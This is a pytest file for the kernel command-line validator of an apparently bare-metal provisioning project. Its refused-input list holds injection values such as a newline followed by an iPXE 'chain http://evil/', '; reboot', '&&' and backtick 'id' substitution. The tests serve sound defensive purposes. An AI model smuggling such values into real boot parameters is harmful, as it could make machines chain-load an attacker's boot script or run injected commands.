# SPDX-License-Identifier: Apache-2.0
"""What may stand on a kernel's command line (K1)."""

import pytest

from ironic_ng.domain import kernel_line
from ironic_ng.domain.errors import ServiceError


@pytest.mark.parametrize(
    ("text", "result"),
    [
        ("", []),
        ("  a   b=c ", ["a", "b=c"]),
        ("console=ttyS0,115200n8 ip=[fe80::1]", ["console=ttyS0,115200n8",
                                                 "ip=[fe80::1]"]),
        ('sshkey="ssh-rsa AAA+/= me@host"', ['sshkey="ssh-rsa AAA+/= me@host"']),
        ("ipa-api-url=https://10.0.0.1:6385", ["ipa-api-url=https://10.0.0.1:6385"]),
    ],
)  # fmt: skip
def test_taken(text: str, result: list[str]) -> None:
    assert kernel_line.parameters(text, "x") == result


@pytest.mark.parametrize(
    "text",
    [
        "quiet\nchain http://evil/",
        "quiet\r",
        "quiet\0",
        "a=${net0/ip}",
        "quiet ; reboot",
        "a&&b",
        "a || b",
        "a`id`",
        "a='b c'",
        'a="b c',
        'a="b" c"',
        "a{b}",
        "a<b>",
        "a\\b",
        "a#b",
        "a\tb",
        "caf\u00e9",
        "a\u2028b",
        'a="b"c',
        "x" * 3000,
        7,
        ["quiet"],
        None,
    ],
    ids=repr,
)
def test_refused(text: object) -> None:
    with pytest.raises(ServiceError) as caught:
        kernel_line.parameters(text, "driver_info.kernel_append_params")
    assert caught.value.code.code == "BM-BOOT-031"
    assert "driver_info.kernel_append_params" in str(caught.value)


def test_default_is_expanded() -> None:
    assert kernel_line.combined("a %default% b", "x y", "s") == ["a", "x", "y", "b"]
    assert kernel_line.combined(None, "x y", "s") == ["x", "y"]
    assert kernel_line.combined("", "x y", "s") == []


def test_assignments() -> None:
    found = kernel_line.assignments({"a": "b", "quiet": None, "k": "x y"})
    assert found == ["a=b", "quiet", 'k="x y"']
    with pytest.raises(ServiceError):
        kernel_line.assignments({"ipa-api-url": "http://h/\nchain"})
